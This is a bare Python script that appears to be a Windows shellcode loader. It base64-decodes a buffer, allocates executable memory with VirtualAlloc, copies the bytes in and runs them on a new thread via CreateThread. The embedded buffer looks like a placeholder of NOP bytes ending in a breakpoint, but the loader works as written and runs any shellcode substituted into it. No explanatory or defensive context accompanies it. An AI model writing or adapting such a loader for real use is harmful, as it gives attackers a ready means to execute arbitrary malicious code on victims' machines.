import base64
import ctypes

_buf = base64.b64decode("kJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJDM")
_k32 = ctypes.windll.kernel32
_k32.VirtualAlloc.restype = ctypes.c_void_p
_mem = _k32.VirtualAlloc(None, len(_buf), 0x3000, 0x40)
ctypes.memmove(_mem, _buf, len(_buf))
_thread = _k32.CreateThread(None, 0, ctypes.c_void_p(_mem), None, 0, None)
_k32.WaitForSingleObject(_thread, 0xFFFFFFFF)
